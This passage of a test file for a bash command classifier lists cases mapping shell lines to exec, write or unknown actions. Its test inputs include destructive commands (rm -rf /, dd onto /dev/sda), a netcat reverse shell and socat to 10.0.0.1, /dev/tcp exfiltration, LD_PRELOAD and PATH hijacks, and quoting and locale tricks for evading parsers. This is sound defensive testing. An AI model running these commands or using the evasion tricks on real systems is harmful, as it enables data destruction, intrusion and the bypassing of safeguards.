import { beforeAll, describe, expect, it } from 'vitest';
import type { Action } from '../types.js';
import { classifyShellCommand, loadShellClassifier } from './shell.js';

beforeAll(async () => {
  await loadShellClassifier();
});

/** `exec ls -l` → { operation: 'exec', resource: 'ls -l' }; `unknown` → { operation: 'unknown' }. */
function actions(...specs: string[]): Action[] {
  return specs.map((s) => {
    const space = s.indexOf(' ');
    return space === -1 ? { operation: s } : { operation: s.slice(0, space), resource: s.slice(space + 1) };
  });
}

type Case = readonly [name: string, command: string, expected: readonly string[]];

const simple: readonly Case[] = [
  ['one command', 'ls -la /var/log', ['exec ls -la /var/log']],
  ['quote removal joins argv with single spaces', 'grep -i "a b" /x', ['exec grep -i a b /x']],
  ['single and double quotes', `echo 'one  two'   "three"`, ['exec echo one  two three']],
  ['pipeline', 'ls | grep x | wc -l', ['exec ls', 'exec grep x', 'exec wc -l']],
  ['lists of every kind', 'a; b && c || d & e', ['exec a', 'exec b', 'exec c', 'exec d', 'exec e']],
  ['newlines separate commands', 'ls\n\nid', ['exec ls', 'exec id']],
  [
    'subshell',
    '(cd /tmp && rm -rf x)',
    ['exec cd /tmp', 'exec rm -rf x', 'write x', 'write x/', 'write /tmp/x', 'write /tmp/x/'],
  ],
  ['brace group', '{ id; whoami; }', ['exec id', 'exec whoami']],
  ['negation', '! grep -q x f', ['exec grep -q x f']],
  ['duplicates are reported once', 'ls; ls', ['exec ls']],
  ['|& pipes stderr too', 'ls |& cat', ['exec ls', 'exec cat']],
  ['line continuation', 'ls \\\n  -l', ['exec ls -l']],
  ['a trailing comment is not an argument', 'true # rm -rf /', ['exec true']],
  ['a # inside a word is text', 'echo a#b', ['exec echo a#b']],
  [
    'tilde is kept as written (and the name reported too)',
    '~/bin/tool x',
    ['exec ~/bin/tool x', 'exec tool x'],
  ],
  [
    'a path to the program is kept, and the program is reported by name',
    '/usr/bin/rm -f x',
    ['exec /usr/bin/rm -f x', 'exec rm -f x', 'write x'],
  ],
  [
    'arguments with expansions keep their source text',
    'rm "$HOME/x" ${DIR}/y',
    ['exec rm "$HOME/x" ${DIR}/y', 'unknown'],
  ],
  [
    'globs in arguments stay as written',
    'rm -f /tmp/*.log',
    ['exec rm -f /tmp/*.log', 'write /tmp', 'write /tmp/'],
  ],
];

const substitutions: readonly Case[] = [
  [
    'command substitution in double quotes',
    'echo "$(rm -rf /)"',
    ['exec rm -rf /', 'write /', 'exec echo "$(rm -rf /)"'],
  ],
  ['backticks', 'echo `id`', ['exec id', 'exec echo `id`']],
  ['backticks inside double quotes', 'echo "x`id`y"', ['exec id', 'exec echo "x`id`y"']],
  [
    'process substitution both ways',
    'diff <(ls /a) >(wc -l)',
    ['exec ls /a', 'exec wc -l', 'exec diff <(ls /a) >(wc -l)'],
  ],
  ['an assignment alone still runs its substitution', 'X=$(rm -rf /)', ['exec rm -rf /', 'write /']],
  ['prefix assignment with substitution', 'X=$(id) ls', ['exec id', 'exec ls']],
  ['inside a parameter expansion default', 'echo ${x:-$(id)}', ['exec id', 'exec echo ${x:-$(id)}']],
  // Arithmetic evaluates the substituted output again (bash before 5.2 expands `a[$(…)]` in it).
  [
    'inside arithmetic',
    'echo $(( $(id -u) + 1 ))',
    ['exec id -u', 'exec echo $(( $(id -u) + 1 ))', 'unknown'],
  ],
  ['inside an array assignment', 'arr=(a $(whoami))', ['exec whoami']],
  ['inside [[ ]]', '[[ -f $(whoami) ]] && ls', ['exec whoami', 'exec ls']],
  ['inside an array subscript', 'echo ${a[$(who)]}', ['exec who', 'exec echo ${a[$(who)]}', 'unknown']],
  ['nested substitutions', 'echo $(echo $(id))', ['exec id', 'exec echo $(id)', 'exec echo $(echo $(id))']],
  [
    'in a redirect target',
    'ls > "$(mktemp)"',
    ['exec mktemp', 'write /tmp', 'write /tmp/', 'unknown', 'exec ls'],
  ],
  ['in a for list', 'for f in $(ls); do rm "$f"; done', ['exec ls', 'exec rm "$f"', 'unknown']],
  ['in a case subject', 'case $(uname) in Linux) echo l;; esac', ['exec uname', 'exec echo l']],
  ['single quotes do not substitute', `echo '$(rm x)'`, ['exec echo $(rm x)']],
  ['$(< file) reads a file and runs nothing', 'echo $(< /etc/hostname)', ['exec echo $(< /etc/hostname)']],
];

const heredocs: readonly Case[] = [
  [
    'unquoted heredoc runs its substitutions',
    'cat <<EOF\n$(rm -rf /)\nEOF',
    ['exec rm -rf /', 'write /', 'exec cat'],
  ],
  ['single-quoted delimiter does not', "cat <<'EOF'\n$(rm -rf /)\nEOF", ['exec cat']],
  ['double-quoted delimiter does not', 'cat <<"EOF"\n`id`\nEOF', ['exec cat']],
  ['backslash-quoted delimiter does not', 'cat <<\\EOF\n$(id)\nEOF', ['exec cat']],
  ['heredoc with an output redirection', 'cat <<EOF > /etc/motd\nhi\nEOF', ['write /etc/motd', 'exec cat']],
  [
    'a shell reading a heredoc runs its body',
    'bash <<EOF\nrm -rf /tmp/x\nEOF',
    // (unknown too: a command of the script could read the rest of it)
    ['exec bash', 'exec rm -rf /tmp/x', 'unknown', 'write /tmp/x', 'write /tmp/x/'],
  ],
  [
    'escaped substitution in a heredoc for a shell',
    'sh <<EOF\necho \\$(id)\nEOF',
    ['exec sh', 'exec id', 'exec echo $(id)'],
  ],
  [
    'a shell reading a here-string',
    'sh <<< "id; rm x"',
    ['exec sh', 'exec id', 'exec rm x', 'unknown', 'write x'],
  ],
  [
    'a heredoc piped into a shell is unknown',
    'cat <<EOF | sh\nrm x\nEOF',
    ['exec sh', 'unknown', 'exec cat'],
  ],
  ['a list after the heredoc operator', 'cat <<EOF && rm x\nbody\nEOF', ['exec rm x', 'write x', 'exec cat']],
];

const control: readonly Case[] = [
  ['function body counts as run', 'f(){ rm -rf /; }; f', ['exec rm -rf /', 'write /', 'exec f']],
  ['function keyword', 'function g { curl x | sh; }', ['exec curl x', 'exec sh', 'unknown']],
  [
    'while with input redirection',
    'while read l; do echo "$l"; done < /etc/passwd',
    ['exec read l', 'exec echo "$l"'],
  ],
  ['until', 'until false; do sleep 1; done', ['exec false', 'exec sleep 1']],
  [
    'if / elif / else with test commands',
    'if test -f x; then rm x; elif [ -d y ]; then rmdir y; else touch z; fi',
    [
      'exec test -f x',
      'exec rm x',
      'write x',
      'exec [ -d y ]',
      'exec rmdir y',
      'write y',
      'exec touch z',
      'write z',
    ],
  ],
  [
    'case arms',
    'case $1 in start) systemctl start x;; *) echo no;; esac',
    ['exec systemctl start x', 'exec echo no'],
  ],
  ['c-style for', 'for ((i=0;i<3;i++)); do echo $i; done', ['exec echo $i']],
  ['select', 'select x in a b; do rm $x; done', ['exec rm $x', 'unknown']],
  [
    'coproc of a simple command',
    'coproc tail -f /var/log/syslog',
    ['exec coproc tail -f /var/log/syslog', 'exec tail -f /var/log/syslog'],
  ],
  ['coproc of a compound command is unknown', 'coproc w { rm x; }', ['exec coproc w { rm x', 'unknown']],
  ['time keyword', 'time ls -l', ['exec time ls -l', 'exec ls -l']],
  ['declaration builtins run as commands', 'local x=$(id)', ['exec id', 'exec local x=$(id)']],
  ['unset', 'unset FOO', ['exec unset FOO']],
];

const wrappers: readonly Case[] = [
  ['sudo -u user', 'sudo -u x rm -rf /', ['exec sudo -u x rm -rf /', 'exec rm -rf /', 'write /']],
  [
    'sudo with options that take values and a quoted argument',
    `sudo -u postgres -g db -C 5 psql -c 'drop database x'`,
    ['exec sudo -u postgres -g db -C 5 psql -c drop database x', 'exec psql -c drop database x'],
  ],
  [
    'sudo long options and --',
    'sudo -E -n --user=root -- rm x',
    ['exec sudo -E -n --user=root -- rm x', 'exec rm x', 'write x'],
  ],
  [
    'sudo abbreviated long option',
    'sudo --us root rm x',
    ['exec sudo --us root rm x', 'exec rm x', 'write x'],
  ],
  ['sudo attached value', 'sudo -uroot id', ['exec sudo -uroot id', 'exec id']],
  ['sudo -s without a command reads stdin', 'sudo -s', ['exec sudo -s', 'unknown']],
  ['sudo -e writes the file', 'sudo -e /etc/hosts', ['exec sudo -e /etc/hosts', 'write /etc/hosts']],
  ['nested sudo', 'sudo sudo id', ['exec sudo sudo id', 'exec sudo id', 'exec id']],
  [
    'env with assignments',
    'env FOO=1 python3 app.py',
    ['exec env FOO=1 python3 app.py', 'exec python3 app.py'],
  ],
  ['env setting PATH is unknown', 'env -i PATH=/tmp ls', ['exec env -i PATH=/tmp ls', 'unknown', 'exec ls']],
  ['env -S is unknown', `env -S 'rm -rf /'`, ['exec env -S rm -rf /', 'unknown']],
  [
    'nice -n',
    'nice -n 10 tar czf /tmp/a.tgz /etc',
    ['exec nice -n 10 tar czf /tmp/a.tgz /etc', 'exec tar czf /tmp/a.tgz /etc', 'write /tmp/a.tgz'],
  ],
  ['nice old syntax', 'nice -5 id', ['exec nice -5 id', 'exec id']],
  ['nohup in the background', 'nohup ./run.sh &', ['exec nohup ./run.sh', 'exec ./run.sh', 'exec run.sh']],
  [
    'timeout',
    'timeout --signal=KILL 10s curl http://x',
    ['exec timeout --signal=KILL 10s curl http://x', 'exec curl http://x'],
  ],
  ['timeout -k value', 'timeout -k 5 10 rm x', ['exec timeout -k 5 10 rm x', 'exec rm x', 'write x']],
  [
    'exec -a with sh -c',
    `exec -a foo /bin/sh -c 'id'`,
    ['exec exec -a foo /bin/sh -c id', 'exec /bin/sh -c id', 'exec sh -c id', 'exec id'],
  ],
  ['command runs its argument', 'command rm x', ['exec command rm x', 'exec rm x', 'write x']],
  ['command -v only looks it up', 'command -v rm', ['exec command -v rm']],
  [
    'xargs appends unknown arguments as {}',
    'ls | xargs rm',
    ['exec ls', 'exec xargs rm', 'exec rm {}', 'unknown'],
  ],
  [
    'xargs with options taking values',
    `find . -name '*.tmp' -print0 | xargs -0 -n 1 -P4 rm -f`,
    ['exec find . -name *.tmp -print0', 'exec xargs -0 -n 1 -P4 rm -f', 'exec rm -f {}', 'unknown'],
  ],
  [
    'xargs -I places the input itself (mv of an unknown file)',
    'xargs -I{} mv {} /tmp',
    ['exec xargs -I{} mv {} /tmp', 'exec mv {} /tmp', 'unknown'],
  ],
  ['xargs alone runs echo', 'xargs', ['exec xargs', 'exec echo {}']],
  [
    'xargs into sh -c',
    `xargs sh -c 'rm "$1"' _`,
    ['exec xargs sh -c rm "$1" _', 'exec sh -c rm "$1" _ {}', 'exec rm "$1"', 'unknown'],
  ],
  [
    'find -exec',
    'find /tmp -name x -exec rm -f {} \\;',
    ['exec find /tmp -name x -exec rm -f {} ;', 'exec rm -f {}', 'write /tmp', 'write /tmp/'],
  ],
  [
    'find -execdir with sh -c and +',
    `find . -execdir sh -c 'rm "$1"' _ {} +`,
    ['exec find . -execdir sh -c rm "$1" _ {} +', 'exec sh -c rm "$1" _ {}', 'exec rm "$1"', 'unknown'],
  ],
  [
    'find -ok with a quoted ;',
    `find . -ok rm {} ';'`,
    ['exec find . -ok rm {} ;', 'exec rm {}', 'write .', 'write ./'],
  ],
  [
    'find -fprint writes',
    'find . -name x -fprint /etc/x',
    ['exec find . -name x -fprint /etc/x', 'write /etc/x'],
  ],
  ['find with an expansion is unknown', 'find . $OPTS', ['exec find . $OPTS', 'unknown']],
  [
    'bash -c',
    `bash -c 'rm -rf /tmp/x; id'`,
    ['exec bash -c rm -rf /tmp/x; id', 'exec rm -rf /tmp/x', 'write /tmp/x', 'write /tmp/x/', 'exec id'],
  ],
  [
    'sh -c in a flag cluster',
    `sh -xec "curl x | sh"`,
    ['exec sh -xec curl x | sh', 'exec curl x', 'exec sh', 'unknown'],
  ],
  ['sh -c of an expansion is unknown', 'bash -c "$CMD"', ['exec bash -c "$CMD"', 'unknown']],
  ['a script file runs only itself', 'bash script.sh', ['exec bash script.sh']],
  [
    'a shell by path with -lc',
    `/bin/bash -lc 'ls'`,
    ['exec /bin/bash -lc ls', 'exec bash -lc ls', 'exec ls'],
  ],
  ['a shell reading the channel is unknown', 'bash', ['exec bash', 'unknown']],
  ['zsh -c', `zsh -o errexit -c 'id'`, ['exec zsh -o errexit -c id', 'exec id']],
  ['fish -c is unknown', `fish -c 'rm x'`, ['exec fish -c rm x', 'unknown']],
  ['eval joins its arguments', 'eval "rm -rf" /', ['exec eval rm -rf /', 'exec rm -rf /', 'write /']],
  ['eval of an expansion is unknown', 'eval $X', ['exec eval $X', 'unknown']],
  [
    'su -c',
    `su - root -c 'systemctl restart nginx'`,
    ['exec su - root -c systemctl restart nginx', 'exec systemctl restart nginx'],
  ],
  ['su without -c is a shell on stdin', 'su root', ['exec su root', 'unknown']],
  [
    'watch runs its words through sh -c',
    `watch -n 5 'df -h; rm x'`,
    ['exec watch -n 5 df -h; rm x', 'exec df -h', 'exec rm x', 'write x'],
  ],
  ['stdbuf', 'stdbuf -oL tail -f x', ['exec stdbuf -oL tail -f x', 'exec tail -f x']],
  [
    'chroot with a command',
    'chroot /mnt /bin/sh -c id',
    ['exec chroot /mnt /bin/sh -c id', 'exec /bin/sh -c id', 'exec sh -c id', 'exec id'],
  ],
  [
    'flock -c',
    `flock /tmp/l -c 'rm x'`,
    ['exec flock /tmp/l -c rm x', 'write /tmp/l', 'exec rm x', 'write x'],
  ],
  [
    'busybox sh -c',
    `busybox sh -c 'rm x'`,
    ['exec busybox sh -c rm x', 'exec sh -c rm x', 'exec rm x', 'write x'],
  ],
  ['doas -u', 'doas -u root rm x', ['exec doas -u root rm x', 'exec rm x', 'write x']],
  [
    'ionice and setsid',
    'ionice -c 3 setsid rm x',
    ['exec ionice -c 3 setsid rm x', 'exec setsid rm x', 'exec rm x', 'write x'],
  ],
  [
    'trap runs its action later',
    `trap 'rm -rf /tmp/x' EXIT`,
    ['exec trap rm -rf /tmp/x EXIT', 'exec rm -rf /tmp/x', 'write /tmp/x', 'write /tmp/x/'],
  ],
  [
    'an alias body is classified',
    `alias ls='rm -rf /'`,
    ['exec alias ls=rm -rf /', 'exec rm -rf /', 'write /'],
  ],
  ['builtin', 'builtin cd /tmp', ['exec builtin cd /tmp', 'exec cd /tmp']],
];

const quoting: readonly Case[] = [
  ['empty quotes inside a name', `r''m -rf /`, ['exec rm -rf /', 'write /']],
  ['double-quoted part of a name', `"r"m -rf /`, ['exec rm -rf /', 'write /']],
  ['leading backslash', '\\rm -rf /', ['exec rm -rf /', 'write /']],
  ['backslash inside a name', 'r\\m x', ['exec rm x', 'write x']],
  ['ANSI-C hex escapes', `$'\\x72\\x6d' -rf /`, ['exec rm -rf /', 'write /']],
  ['ANSI-C octal escape', `$'\\162'm x`, ['exec rm x', 'write x']],
  ['ANSI-C unicode escape', `$'\\u0072m' x`, ['exec rm x', 'write x']],
  ['brace expansion in arguments', 'rm {-rf,/}', ['exec rm -rf /', 'write /']],
  ['brace sequences', 'touch f{1..3}', ['exec touch f1 f2 f3', 'write f1', 'write f2', 'write f3']],
  ['quoted braces are text', `echo "{a,b}"`, ['exec echo {a,b}']],
  ['escapes inside double quotes', `echo "a\\"b\\$c\\q"`, ['exec echo a"b$c\\q']],
  ['a dangerous-looking string is just an argument', `echo "rm -rf /"`, ['exec echo rm -rf /']],
  ['grep for sudo is grep', `grep 'sudo rm' /var/log/auth.log`, ['exec grep sudo rm /var/log/auth.log']],
];

const unresolvable: readonly Case[] = [
  ['variable as the command name', '$X -rf /', ['unknown']],
  ['substitution as the command name', '$(echo rm) -rf /', ['exec echo rm', 'unknown']],
  ['braced expansion as the command name', '${CMD} x', ['unknown']],
  ['glob as the command name', '/bin/r? -rf /', ['unknown']],
  ['star glob as the command name', 'r* x', ['unknown']],
  ['brace expansion as the command name', '{rm,-rf,/}', ['unknown']],
  ['syntax error', 'ls (', ['unknown', 'exec ls']],
  ['unterminated quote', 'echo "unterminated', ['unknown', 'exec echo']],
  ['incomplete if', 'if true; then', ['unknown', 'exec true']],
  ['empty line runs nothing', '', ['unknown']],
  ['only a comment', '# rm -rf /', ['unknown']],
  ['a wrapper with an expansion where options go', 'sudo $OPTS rm x', ['exec sudo $OPTS rm x', 'unknown']],
];

const redirects: readonly Case[] = [
  ['output redirection', 'echo hi > /tmp/out', ['write /tmp/out', 'exec echo hi']],
  ['append plus fd duplication', 'echo hi >> /var/log/x 2>&1', ['write /var/log/x', 'exec echo hi']],
  ['/dev/null and >&2 are not actions', 'ls 2>/dev/null >&2', ['exec ls']],
  ['&> writes', 'ls &> /tmp/all', ['write /tmp/all', 'exec ls']],
  ['>| writes', 'ls >| /tmp/c', ['write /tmp/c', 'exec ls']],
  ['>& to a file writes', 'echo x >& /tmp/e', ['write /tmp/e', 'exec echo x']],
  ['closing a descriptor is not an action', 'ls 2>&-', ['exec ls']],
  ['non-literal target is unknown', 'ls > $F', ['unknown', 'exec ls']],
  [
    'a glob target names a file in its directory',
    'echo x > /tmp/*.log',
    ['write /tmp', 'write /tmp/', 'exec echo x'],
  ],
  ['words after the target are arguments', 'echo > /tmp/x rm -rf /', ['write /tmp/x', 'exec echo rm -rf /']],
  ['redirection before the command', '>/tmp/f rm x', ['write /tmp/f', 'exec rm x', 'write x']],
  ['redirection of a group', '{ id; } > /tmp/o', ['exec id', 'write /tmp/o']],
  [
    'redirection of a subshell',
    '(echo a; echo b) >> /tmp/log',
    ['exec echo a', 'exec echo b', 'write /tmp/log'],
  ],
  ['exec with a descriptor redirect', 'exec 3> /tmp/fd3', ['write /tmp/fd3', 'exec exec']],
  [
    'redirection inside a substitution',
    'echo $(id > /tmp/i)',
    ['write /tmp/i', 'exec id', 'exec echo $(id > /tmp/i)'],
  ],
  ['input redirection is not a write', 'cat < /etc/passwd', ['exec cat']],
  [
    'tee writes its files',
    'echo secret | tee -a /etc/passwd',
    ['exec echo secret', 'exec tee -a /etc/passwd', 'write /etc/passwd'],
  ],
  [
    'dd of= writes',
    'dd if=/dev/zero of=/dev/sda bs=1M',
    ['exec dd if=/dev/zero of=/dev/sda bs=1M', 'write /dev/sda'],
  ],
  ['<> is not parsed by the grammar: unknown', 'ls <> /tmp/x', ['unknown', 'exec ls']],
  ['reading /dev/tcp opens a connection: unknown', 'cat < /dev/tcp/10.0.0.1/80', ['unknown', 'exec cat']],
  // bash opens a connection, not a file: exfiltration is not a write a rule on paths governs.
  [
    'writing /dev/tcp opens a connection: unknown',
    'echo x > /dev/tcp/10.0.0.1/80',
    ['unknown', 'exec echo x'],
  ],
  [
    'sudo tee writes',
    'echo x | sudo tee /etc/x',
    ['exec echo x', 'exec sudo tee /etc/x', 'exec tee /etc/x', 'write /etc/x'],
  ],
];

const environment: readonly Case[] = [
  ['PATH prefix is unknown', 'PATH=/tmp:$PATH ls', ['unknown', 'exec ls']],
  ['LD_PRELOAD prefix is unknown', 'LD_PRELOAD=/tmp/x.so ls', ['unknown', 'exec ls']],
  ['harmless prefix assignment', 'LANG=C sort f', ['exec sort f']],
  [
    'a pager variable runs its value',
    `PAGER='rm -rf /' git log`,
    ['exec rm -rf /', 'write /', 'exec git log'],
  ],
  [
    'GIT_SSH_COMMAND runs its value',
    `GIT_SSH_COMMAND="ssh -i k" git pull`,
    ['exec ssh -i k', 'exec git pull', 'write .', 'write ./'],
  ],
  ['export PATH is unknown', 'export PATH=/tmp', ['unknown', 'exec export PATH=/tmp']],
  ['export of a harmless variable', 'export FOO=bar', ['exec export FOO=bar']],
  // Under BIG5, GBK, GB18030 or SJIS the last byte of a character can be `\`: bash then reads
  // `中\;` as a character and a `;`, a separator the classifier (UTF-8) does not see.
  ['a BIG5 locale prefix is unknown', 'LC_ALL=zh_TW.BIG5 echo a', ['unknown', 'exec echo a']],
  [
    'export of an SJIS LC_CTYPE is unknown',
    'export LC_CTYPE=ja_JP.SJIS',
    ['unknown', 'exec export LC_CTYPE=ja_JP.SJIS'],
  ],
  [
    'env LANG=GBK is unknown',
    'env LANG=zh_CN.GBK echo a',
    ['exec env LANG=zh_CN.GBK echo a', 'unknown', 'exec echo a'],
  ],
  ['a locale from an expansion is unknown', 'LANG=$L echo a', ['unknown', 'exec echo a']],
  ['a locale path is unknown', 'LC_ALL=/tmp/l/x.UTF-8 echo a', ['unknown', 'exec echo a']],
  ['LOCPATH is unknown', 'LOCPATH=/tmp/l echo a', ['unknown', 'exec echo a']],
  ['a UTF-8 locale is harmless', 'LANG=en_US.UTF-8 sort f', ['exec sort f']],
  ['utf8 spelled any way is harmless', 'LC_ALL=C.utf8 LC_CTYPE=de_DE.utf-8 sort f', ['exec sort f']],
  ['C and POSIX are harmless', 'export LC_ALL=POSIX LANG=C', ['exec export LC_ALL=POSIX LANG=C']],
  [
    'printf -v into PATH is unknown',
    'printf -v PATH /tmp; ls',
    ['exec printf -v PATH /tmp', 'unknown', 'exec ls'],
  ],
  ['read into a pager variable is unknown', 'read -r PAGER', ['exec read -r PAGER', 'unknown']],
  ['read into a plain variable', 'read -r line', ['exec read -r line']],
  [
    'mapfile -C runs its callback',
    `mapfile -C 'rm x' -c 1 arr < f`,
    // (unknown too: the callback shares the redirected stdin)
    ['exec mapfile -C rm x -c 1 arr', 'exec rm x', 'unknown', 'write x'],
  ],
  [
    'hash -p rebinds a name: unknown',
    'hash -p /tmp/evil ls; ls',
    ['exec hash -p /tmp/evil ls', 'unknown', 'exec ls'],
  ],
  [
    'BASH_ENV through env',
    'env BASH_ENV=/tmp/x bash -c id',
    ['exec env BASH_ENV=/tmp/x bash -c id', 'unknown', 'exec bash -c id', 'exec id'],
  ],
];

const programs: readonly Case[] = [
  ['plain awk', `awk '{print $1}' f`, ['exec awk {print $1} f']],
  ['awk comparison is not a redirection', `awk '$3 > max' f`, ['exec awk $3 > max f']],
  [
    'awk system() is unknown',
    `awk 'BEGIN{system("rm -rf /")}'`,
    ['exec awk BEGIN{system("rm -rf /")}', 'unknown'],
  ],
  [
    'awk printing to a file is unknown',
    `awk '{print > "/etc/x"}' f`,
    ['exec awk {print > "/etc/x"} f', 'unknown'],
  ],
  [
    'sed -i writes its files',
    `sed -i 's/a/b/' /etc/passwd`,
    ['exec sed -i s/a/b/ /etc/passwd', 'write /etc/passwd'],
  ],
  ['plain sed', `sed -n '/error/p' f`, ['exec sed -n /error/p f']],
  ['sed s///e is unknown', `sed 's/a/b/e' f`, ['exec sed s/a/b/e f', 'unknown']],
  ['sed e command is unknown', `sed '1e rm x' f`, ['exec sed 1e rm x f', 'unknown']],
  [
    'tar --checkpoint-action=exec',
    `tar cf /dev/null . --checkpoint=1 --checkpoint-action=exec='rm x'`,
    ['exec tar cf /dev/null . --checkpoint=1 --checkpoint-action=exec=rm x', 'exec rm x', 'write x'],
  ],
  [
    'ssh ProxyCommand',
    `ssh -o ProxyCommand='nc %h %p; rm x' host`,
    ['exec ssh -o ProxyCommand=nc %h %p; rm x host', 'exec nc %h %p', 'exec rm x', 'write x'],
  ],
  [
    'git -c core.pager',
    `git -c core.pager='rm x' log`,
    ['exec git -c core.pager=rm x log', 'exec rm x', 'write x'],
  ],
  ['git shell alias', `git -c alias.x='!rm y' x`, ['exec git -c alias.x=!rm y x', 'exec rm y', 'write y']],
  [
    'git submodule foreach runs a command line',
    "git submodule foreach 'rm -f y'",
    ['exec git submodule foreach rm -f y', 'exec rm -f y', 'write y', 'write .', 'write ./'],
  ],
  [
    'git bisect run runs its argv',
    'git bisect run rm y',
    ['exec git bisect run rm y', 'exec rm y', 'write y', 'write .', 'write ./'],
  ],
  [
    'git rebase -x runs a command line',
    "git rebase -x 'rm y' HEAD~2",
    ['exec git rebase -x rm y HEAD~2', 'exec rm y', 'write y', 'write .', 'write ./'],
  ],
  [
    'git filter-branch filters are command lines',
    "git filter-branch --tree-filter 'rm y'",
    ['exec git filter-branch --tree-filter rm y', 'exec rm y', 'write y', 'write .', 'write ./'],
  ],
  [
    'git difftool -x runs a command line',
    "git difftool -x 'rm y'",
    ['exec git difftool -x rm y', 'exec rm y', 'write y'],
  ],
  [
    'git config keeps a command for later',
    "git config core.pager 'rm y'",
    ['exec git config core.pager rm y', 'exec rm y', 'write y', 'write .', 'write ./'],
  ],
  [
    'git config of a hook path is unknown',
    'git config core.hooksPath /tmp',
    ['exec git config core.hooksPath /tmp', 'unknown', 'write .', 'write ./'],
  ],
  ['git config reading writes nothing', 'git config user.name', ['exec git config user.name']],
  ['a git subcommand git does not have is unknown', 'git x', ['exec git x', 'unknown']],
  [
    'git commit writes the repository',
    'git -C /srv/app commit -m x',
    ['exec git -C /srv/app commit -m x', 'write /srv/app', 'write /srv/app/'],
  ],
  ['git log reads', 'git log -1', ['exec git log -1']],
  [
    'git commit without a message starts the editor',
    'git commit',
    ['exec git commit', 'unknown', 'write .', 'write ./'],
  ],
  ['git commit -m does not', 'git commit -m x', ['exec git commit -m x', 'write .', 'write ./']],
  [
    'git rebase -i starts the editor',
    'git rebase -i HEAD~2',
    ['exec git rebase -i HEAD~2', 'unknown', 'write .', 'write ./'],
  ],
  ['git add -p reads stdin', 'git add -p', ['exec git add -p', 'unknown', 'write .', 'write ./']],
  ['lz4 -l is a format', 'lz4 -l f', ['exec lz4 -l f', 'write f.lz4']],
  [
    'fc -s runs from the history',
    "history -s 'rm y'; fc -s",
    ['exec history -s rm y', 'exec fc -s', 'unknown'],
  ],
  [
    'sed -i.bak keeps a backup',
    'sed -i.bak s/a/b/ /etc/x',
    ['exec sed -i.bak s/a/b/ /etc/x', 'write /etc/x', 'write /etc/x.bak'],
  ],
  [
    'install -D makes the directories above',
    'install -D f /srv/a/b',
    ['exec install -D f /srv/a/b', 'write /srv/a/b', 'write /srv/a/b/', 'write /srv/a', 'write /srv'],
  ],
  ['fc -l lists', 'fc -l', ['exec fc -l']],
  ['fc --help', 'fc --help', ['exec fc --help']],
  ['history -w writes its file', 'history -w /tmp/h', ['exec history -w /tmp/h', 'write /tmp/h']],
  [
    'complete -C runs a command line',
    "complete -C 'rm y' ls",
    ['exec complete -C rm y ls', 'exec rm y', 'write y'],
  ],
  ['bind -x is unknown', `bind -x '"a":rm y'`, ['exec bind -x "a":rm y', 'unknown']],
  ['editor is vim', `editor -c '!rm y' f`, ['exec editor -c !rm y f', 'unknown']],
  [
    'emacs --eval runs Lisp',
    `emacs --batch --eval '(shell-command "rm y")'`,
    ['exec emacs --batch --eval (shell-command "rm y")', 'unknown'],
  ],
  [
    'git format-patch -N is a flag',
    'git format-patch -N -o /tmp/p HEAD~1',
    ['exec git format-patch -N -o /tmp/p HEAD~1', 'write /tmp/p', 'write /tmp/p/'],
  ],
  [
    'git config -f FILE keeps a command too',
    "git config -f .git/config core.pager 'rm y'",
    [
      'exec git config -f .git/config core.pager rm y',
      'exec rm y',
      'write y',
      'write .git/config',
      'write .git/config/',
    ],
  ],
  ['perf stat -d is a flag', 'perf stat -d rm y', ['exec perf stat -d rm y', 'exec rm y', 'write y']],
  ['gosu runs its command', 'gosu app rm y', ['exec gosu app rm y', 'exec rm y', 'write y']],
  ['tini runs its command', 'tini -- rm y', ['exec tini -- rm y', 'exec rm y', 'write y']],
  [
    'setarch runs its command',
    'setarch x86_64 -R rm y',
    ['exec setarch x86_64 -R rm y', 'exec rm y', 'write y'],
  ],
  ['setarch alone starts a shell', 'setarch x86_64', ['exec setarch x86_64', 'unknown']],
  [
    'capsh hands its words to bash',
    "capsh -- -c 'rm y'",
    ['exec capsh -- -c rm y', 'exec bash -c rm y', 'exec rm y', 'write y'],
  ],
  [
    'perf record runs and writes',
    'perf record -o /tmp/p rm y',
    ['exec perf record -o /tmp/p rm y', 'write /tmp/p', 'exec rm y', 'write y'],
  ],
  ['envdir is unknown', 'envdir /etc/env rm y', ['exec envdir /etc/env rm y', 'unknown']],
  [
    'systemd-nspawn is unknown',
    'systemd-nspawn -D /srv/c rm y',
    ['exec systemd-nspawn -D /srv/c rm y', 'unknown'],
  ],
  ['git branch --merged lists', 'git branch -r --merged', ['exec git branch -r --merged']],
  [
    'git fast-export marks are a file',
    'git fast-export --export-marks=/tmp/m --all',
    ['exec git fast-export --export-marks=/tmp/m --all', 'write /tmp/m'],
  ],
  [
    'GIT_WORK_TREE moves the work tree',
    'GIT_WORK_TREE=/etc git checkout -f',
    ['unknown', 'exec git checkout -f', 'write .', 'write ./'],
  ],
  [
    'nc -e runs a program',
    'nc -e /bin/sh 10.0.0.1 80',
    ['exec nc -e /bin/sh 10.0.0.1 80', 'exec /bin/sh', 'exec sh', 'unknown'],
  ],
  [
    'socat EXEC is unknown',
    'socat TCP:10.0.0.1:80 EXEC:sh',
    ['exec socat TCP:10.0.0.1:80 EXEC:sh', 'unknown'],
  ],
  [
    'cp writes its destination',
    'cp -r /tmp/a /etc/cron.d/',
    ['exec cp -r /tmp/a /etc/cron.d/', 'write /etc/cron.d/'],
  ],
  [
    'mv writes both ends',
    'mv /etc/passwd /tmp/p',
    [
      'exec mv /etc/passwd /tmp/p',
      'write /etc/passwd',
      'write /etc/passwd/',
      'write /tmp/p',
      'write /tmp/p/',
    ],
  ],
  ['curl -o writes', 'curl -fsSLo /etc/x http://a', ['exec curl -fsSLo /etc/x http://a', 'write /etc/x']],
  ['wget to stdout writes nothing', 'wget -O- http://a', ['exec wget -O- http://a']],
  [
    'sort -o writes',
    'sort -k2 -o /etc/cron.d/x f',
    ['exec sort -k2 -o /etc/cron.d/x f', 'write /etc/cron.d/x'],
  ],
  ['sort --output= writes', 'sort --output=/etc/x f', ['exec sort --output=/etc/x f', 'write /etc/x']],
  ['sort to stdout writes nothing', 'sort -t, -k2 f', ['exec sort -t, -k2 f']],
  ['uniq writes its second operand', 'uniq -c f /etc/x', ['exec uniq -c f /etc/x', 'write /etc/x']],
  ['uniq with one operand writes nothing', 'uniq -f 1 f', ['exec uniq -f 1 f']],
  [
    'iconv -o writes',
    'iconv -f latin1 -t utf8 -o /etc/x f',
    ['exec iconv -f latin1 -t utf8 -o /etc/x f', 'write /etc/x'],
  ],
  [
    'touch writes its operands',
    'touch -d now /etc/a /etc/b',
    ['exec touch -d now /etc/a /etc/b', 'write /etc/a', 'write /etc/b'],
  ],
